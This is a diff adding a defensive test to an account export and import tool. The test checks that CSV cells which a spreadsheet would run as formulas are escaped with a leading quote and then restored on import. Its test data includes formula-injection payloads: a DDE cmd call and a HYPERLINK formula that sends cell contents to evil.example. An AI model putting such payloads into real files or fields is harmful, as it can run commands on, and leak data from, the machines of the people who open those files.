@@ -10,7 +10,9 @@ import { parse } from 'csv-parse/sync'
 import { sql, type Kysely } from 'kysely'
 import { generateImportFiles } from '../../scripts/generate-import.ts'
 import type { Database } from '../../src/db/database.ts'
+import { createReportWriter } from '../../src/cli/report-writer.ts'
 import { checkpointPath } from '../../src/import/checkpoint.ts'
+import { USERS_COLUMNS } from '../../src/import/csv-formats.ts'
 import { exportCsv } from '../../src/import/export.service.ts'
 import { importCsv, type ImportOptions } from '../../src/import/import.service.ts'
 import { ERRORS, type ErrorCode } from '../../src/lib/errors.ts'
@@ -277,6 +279,51 @@ for (const kind of DATABASES) {
     assert.match(dry2.stdout, /12 rows, 12 would change/)
     assert.equal(fs.existsSync(`${sheetsFile}.rejects.csv`), false, 'the old rejects list is gone')
     assert.deepEqual(await db.use((app) => census(app.services.db)), landed, 'no slot, audit event, event or verification mail')
+  })
+}
+
+for (const kind of DATABASES) {
+  // review M5: what a customer admin types into a name must not run when the operator opens an
+  // export, a report or a rejects file in a spreadsheet
+  test(`[${kind}] cells a spreadsheet would run as formulas are written with a leading quote, and an import reads them back unchanged`, async (t) => {
+    const src = await buildTestApp(t, kind)
+    const a = await makeAccount(src, { extraUsers: 3 })
+    const call = async (o: Parameters<TestApp['call']>[0]) => {
+      const res = await src.call(o)
+      assert.equal(res.statusCode, 200, res.body)
+    }
+    const accountName = "=cmd|' /C calc'!A0"
+    const names = { u1: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', u2: '+1+1', u3: "'-already quoted", member: "'plain quote" }
+    await call({ method: 'PATCH', url: `/v1/accounts/${a.accountId}`, payload: { name: accountName } })
+    for (const [key, name] of Object.entries(names)) {
+      const id = a.users[key as keyof typeof a.users]
+      await call({ method: 'PUT', url: `/v1/accounts/${a.accountId}/users/${id}`, payload: { email: `${id}@example.com`, name, role: 'member' } })
+    }
+    const dir = tempDir(t)
+    const file = path.join(dir, 'users.csv')
+    const text = await exportText(src.handle.db, 'users')
+    fs.writeFileSync(file, text)
+    const cells = (parse(text) as string[][]).flat()
+    assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell starts a formula')
+    for (const v of [accountName, ...Object.values(names)]) assert.ok(cells.includes(/^'*[=+\-@]/.test(v) ? `'${v}` : v), `${v} written as ${cells.find((c) => c.endsWith(v))}`)
+
+    const dst = await buildTestApp(t, kind)
+    assert.equal((await importInto(dst, { file })).rejected, 0)
+    assert.deepEqual(await apiView(dst), await apiView(src))
+    assert.equal(await exportText(dst.handle.db, 'users'), text)
+
+    // a rejected row's cells go back defused too, ready to be fixed and imported
+    const bad = path.join(dir, 'bad.csv')
+    fs.writeFileSync(bad, `${USERS_COLUMNS.join(',')}\nacc-f,'=1+1,en,u1,not-an-address,=2+2,member,active,\n`)
+    assert.equal((await importInto(dst, { file: bad })).rejected, 1)
+    assert.deepEqual(readRejects(`${bad}.rejects.csv`).get(2)?.cells, ['acc-f', "'=1+1", 'en', 'u1', 'not-an-address', "'=2+2", 'member', 'active', ''])
+
+    // the report's CSV
+    const out: string[] = []
+    const report = createReportWriter('csv', (s) => out.push(s), () => {})
+    report.add({ accountId: 'acc-f', name: accountName, problems: [{ code: 'security-contact-unverified', message: '=1+1@csvf.example has not verified' }] } as unknown as Parameters<typeof report.add>[0])
+    report.end(1)
+    assert.deepEqual((parse(out.join('')) as string[][])[1], ['acc-f', `'${accountName}`, 'security-contact-unverified', "'=1+1@csvf.example has not verified"])
   })
 }
 
